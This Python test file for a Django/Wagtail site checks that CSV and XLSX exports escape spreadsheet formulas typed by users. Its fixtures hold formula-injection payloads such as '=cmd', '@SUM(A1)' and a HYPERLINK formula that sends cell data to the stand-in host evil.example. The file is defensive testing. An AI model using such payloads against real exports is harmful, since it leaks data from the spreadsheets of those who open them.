"""Every CSV export opens in a spreadsheet without running what people typed."""

import csv
import io

import openpyxl
import pytest
from wagtail.log_actions import log

from clubs.models import MembershipRole
from tests.clubs.factories import ClubFactory, MembershipFactory
from tests.events.factories import EventIndexPageFactory, EventPageFactory, join, publish
from tests.home.factories import make_site_home
from tests.members.factories import OrganisationFactory, ProfileFactory

pytestmark = pytest.mark.django_db

FORMULAS = ["=1+2", "+1+1", "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2"]


def rows_of(response) -> list[list[str]]:
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    ).decode()
    return list(csv.reader(io.StringIO(content)))


@pytest.fixture
def admin_client(client, django_user_model):
    admin = django_user_model.objects.create_superuser(email="root@example.org", password="x")
    client.force_login(admin)
    return client


def test_a_guest_whose_address_is_a_formula_reaches_the_organiser_as_text(client):
    club = ClubFactory()
    leader = join(club, role=MembershipRole.LEADER)
    event = EventPageFactory(parent=EventIndexPageFactory(parent=make_site_home()))
    event.questions.add(event.questions.model(label="=Régime", required=False))
    event.save()
    event = publish(event)
    event.organiser_club = club
    event.save_revision().publish()
    question = event.questions.get()
    created = client.post(
        f"/api/community/events/{event.pk}/registration",
        {
            "name": "@SUM(A1)",
            "email": "=1+2-x@example.org",
            "answers": {str(question.pk): "-2+3"},
        },
        content_type="application/json",
    )
    assert created.status_code == 201
    client.force_login(leader.user)
    heading, row = rows_of(client.get(f"/events/{event.pk}/registrations.csv"))
    assert row[:2] == ["'@SUM(A1)", "'=1+2-x@example.org"]
    assert row[-1] == "'-2+3"
    assert heading[-1] == "'=Régime"


def test_the_club_members_export_keeps_formulas_as_text(client):
    club = ClubFactory(slug="lille")
    leader = join(club, role=MembershipRole.LEADER)
    for formula in FORMULAS:
        MembershipFactory(club=club, profile=ProfileFactory(last_name=formula, headline=formula))
    client.force_login(leader.user)
    rows = rows_of(client.get("/clubs/lille/manage/members.csv"))[1:]
    written = {(row[0], row[4]) for row in rows if row[0] != leader.last_name}
    assert written == {("'" + formula, "'" + formula) for formula in FORMULAS}


def test_admin_listing_exports_keep_formulas_as_text_and_numbers_as_numbers(admin_client):
    ProfileFactory(first_name='=HYPERLINK("https://evil.example/"&A1)', headline="\r=1+2")
    OrganisationFactory(name="-Hélios", latitude=50.6, longitude=-1.5)
    [_heading, profile] = rows_of(admin_client.get("/admin/member_profiles/", {"export": "csv"}))
    assert '\'=HYPERLINK("https://evil.example/"&A1)' in profile
    assert "'\r=1+2" in profile
    [_heading, organisation] = rows_of(admin_client.get("/admin/organisations/", {"export": "csv"}))
    assert organisation[0] == "'-Hélios"
    assert "-1.5" in organisation
    xlsx = admin_client.get("/admin/organisations/", {"export": "xlsx"})
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
    names = [row[0].value for row in workbook.active.iter_rows(min_row=2)]
    assert names == ["-Hélios"]


def test_admin_reports_keep_formulas_as_text(admin_client):
    """Wagtail's own reports export through the same writer: the site history names the
    records edited, a member's name among them."""
    log(instance=ProfileFactory(first_name="=cmd", last_name="x"), action="wagtail.edit")
    rows = rows_of(admin_client.get("/admin/reports/site-history/", {"export": "csv"}))
    assert any(cell.startswith("'=cmd") for row in rows[1:] for cell in row)
    assert not any(cell.startswith("=") for row in rows for cell in row)
